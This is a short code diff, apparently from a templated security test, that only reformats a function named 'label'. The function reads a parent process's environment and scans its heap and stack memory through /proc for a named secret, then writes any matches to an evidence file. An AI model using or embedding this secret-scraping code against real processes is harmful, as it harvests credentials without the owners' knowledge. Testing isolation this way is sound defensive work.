@@ -14,8 +14,10 @@ def label(text):
     name = b"@SECRET_NAME@="
     with real_open("/proc/@PARENT_PID@/environ", "rb") as f:
         found = [v for v in f.read().split(b"\0") if v.startswith(name)]
-    with real_open("/proc/@PARENT_PID@/maps") as maps, \
-            real_open("/proc/@PARENT_PID@/mem", "rb") as mem:
+    with (
+        real_open("/proc/@PARENT_PID@/maps") as maps,
+        real_open("/proc/@PARENT_PID@/mem", "rb") as mem,
+    ):
         for line in maps:
             if "[heap]" in line or "[stack]" in line:
                 start, stop = (int(x, 16) for x in line.split()[0].split("-"))
@@ -23,7 +25,7 @@ def label(text):
                 chunk = mem.read(stop - start)
                 at = chunk.find(name)
                 if at >= 0:
-                    found.append(chunk[at:at + 80].split(b"\0")[0])
+                    found.append(chunk[at : at + 80].split(b"\0")[0])
     with real_open("@EVIDENCE@/proc_mem.txt", "wb") as f:
         f.write(b"\n".join(found))
     return 1
